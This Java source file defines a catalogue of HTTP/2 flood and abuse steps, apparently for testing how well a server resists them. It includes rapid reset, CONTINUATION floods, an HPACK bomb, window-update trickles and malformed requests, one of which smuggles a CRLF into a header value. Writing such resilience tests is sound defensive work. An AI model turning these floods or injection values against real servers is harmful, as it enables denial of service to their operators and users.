package io.archangel.proof.abuse;

import java.io.IOException;
import java.util.Arrays;
import java.util.List;

/**
 * A way to flood a server with frames.
 *
 * @param name   what is sent
 * @param before what comes first, and is no abuse
 * @param abuse  sends one abusive frame, or one request whose only purpose it is to be one
 */
record Flood(String name, Step before, Step abuse) {
    private static final int PRIORITY_SIZE = 5;
    private static final int INITIAL_WINDOW = 4;
    private static final byte[] PING = new byte[8];
    private static final byte[] EMPTY = {};

    /** Something that a client does. @see H2Client */
    @FunctionalInterface
    interface Step {
        void on(H2Client client) throws IOException;
    }

    private static Flood of(String name, Step abuse) {
        return new Flood(name, client -> {}, abuse);
    }

    /** Sends something on a stream of its own each time, so that the server resets it. */
    private static Flood madeYouReset(String name, ObjIntStep breach) {
        return of("made you reset: " + name, client -> breach.on(client, client.get("/wait")));
    }

    @FunctionalInterface
    private interface ObjIntStep {
        void on(H2Client client, int stream) throws IOException;
    }

    private static Flood malformed(String name, java.util.function.UnaryOperator<Block> how) {
        return of("malformed request: " + name, client -> client.headers(how.apply(Block.request("GET", "/")), true));
    }

    /** On one stream that stays open, whose number the client's first request has. */
    private static Flood onOpenStream(String name, ObjIntStep abuse) {
        return new Flood(name, client -> client.post("/body"), client -> abuse.on(client, 1));
    }

    private static void frame(H2Client client, int type, int flags, int stream, byte[] payload) throws IOException {
        client.send(new Frame(type, flags, stream, payload));
    }

    static List<Flood> all() {
        return List.of(
                of("rapid reset", client -> client.reset(client.get("/wait"))),
                of("rapid reset of a request with a body", client -> client.reset(client.post("/body"))),
                of("rapid reset of what is answered at once", client -> client.reset(client.get("/"))),
                madeYouReset("a window of nothing", (client, stream) -> client.window(stream, 0)),
                madeYouReset("a window that overflows", (client, stream) -> client.window(stream, Integer.MAX_VALUE)),
                madeYouReset("data behind the end", (client, stream) -> client.data(stream, 1, true)),
                madeYouReset(
                        "headers behind the end",
                        (client, stream) -> frame(
                                client,
                                Frame.HEADERS,
                                Frame.END_HEADERS | Frame.END_STREAM,
                                stream,
                                new Block().with("x", "y").bytes())),
                madeYouReset(
                        "a priority of the wrong size",
                        (client, stream) ->
                                frame(client, Frame.PRIORITY, Frame.NONE, stream, new byte[PRIORITY_SIZE - 1])),
                madeYouReset(
                        "a stream that depends on itself",
                        (client, stream) -> frame(
                                client,
                                Frame.PRIORITY,
                                Frame.NONE,
                                stream,
                                Arrays.copyOf(H2Client.number(stream), PRIORITY_SIZE))),
                malformed("an upper case name", block -> block.with("X", "y")),
                malformed("a header of a connection", block -> block.with("connection", "close")),
                malformed(
                        "a header pseudo and late",
                        block -> block.with("x", "y").with(":path", "/")),
                malformed("an unknown pseudo-header", block -> block.with(":x", "y")),
                malformed("no name", block -> block.with("", "")),
                malformed("a transfer coding", block -> block.with("transfer-encoding", "chunked")),
                malformed("a line end in a value", block -> block.with("x", "y\r\nz: a")),
                malformed("a length of what does not come", block -> block.with("content-length", "9")),
                of("a body longer than it said", client -> {
                    int stream = client.headers(Block.request("POST", "/").with("content-length", "1"), false);
                    client.data(stream, 2, true);
                }),
                new Flood(
                        "CONTINUATION, one byte each",
                        client -> frame(client, Frame.HEADERS, Frame.NONE, 1, EMPTY),
                        client -> frame(client, Frame.CONTINUATION, Frame.NONE, 1, new byte[] {(byte) 0x82})),
                new Flood(
                        "CONTINUATION, empty",
                        client -> frame(
                                client,
                                Frame.HEADERS,
                                Frame.NONE,
                                1,
                                Block.request("GET", "/").bytes()),
                        client -> frame(client, Frame.CONTINUATION, Frame.NONE, 1, EMPTY)),
                of("PING", client -> frame(client, Frame.PING, Frame.NONE, 0, PING)),
                of("PING, as answers to none", client -> frame(client, Frame.PING, Frame.ACK, 0, PING)),
                of("SETTINGS", client -> client.setting(INITIAL_WINDOW, 65_535)),
                of("SETTINGS, empty", client -> frame(client, Frame.SETTINGS, Frame.NONE, 0, EMPTY)),
                of("SETTINGS, as answers to none", client -> frame(client, Frame.SETTINGS, Frame.ACK, 0, EMPTY)),
                of(
                        "PRIORITY on streams that nobody opened",
                        client -> frame(
                                client, Frame.PRIORITY, Frame.NONE, client.idleStream(), new byte[PRIORITY_SIZE])),
                onOpenStream(
                        "PRIORITY on one stream",
                        (client, stream) -> frame(client, Frame.PRIORITY, Frame.NONE, stream, new byte[PRIORITY_SIZE])),
                onOpenStream("DATA, empty", (client, stream) -> client.data(stream, 0, false)),
                onOpenStream(
                        "DATA, nothing but padding",
                        (client, stream) -> frame(client, Frame.DATA, Frame.PADDED, stream, new byte[] {3, 0, 0, 0})),
                of("WINDOW_UPDATE by one, of the connection", client -> client.window(0, 1)),
                onOpenStream("WINDOW_UPDATE by one, of a stream", (client, stream) -> client.window(stream, 1)),
                new Flood(
                        "a window of a byte at a time for an answer that is large",
                        client -> {
                            client.setting(INITIAL_WINDOW, 0);
                            client.get("/large");
                        },
                        client -> client.window(1, 1)),
                new Flood(
                        "answers that no window lets out",
                        client -> client.setting(INITIAL_WINDOW, 0),
                        client -> client.get("/large")),
                new Flood(
                        "a bomb of HPACK",
                        client -> client.headers(Block.request("GET", "/").kept("x", "y".repeat(4000)), true),
                        client -> client.headers(Block.request("GET", "/").latest(10_000), true)),
                of("headers that are too long", client -> {
                    int stream = client.idleStream();
                    var block = Block.request("GET", "/")
                            .with("x", "y".repeat(30_000))
                            .bytes();
                    frame(client, Frame.HEADERS, Frame.END_STREAM, stream, Arrays.copyOf(block, 16_000));
                    var rest = Arrays.copyOfRange(block, 16_000, block.length);
                    frame(client, Frame.CONTINUATION, Frame.END_HEADERS, stream, rest);
                }));
    }
}
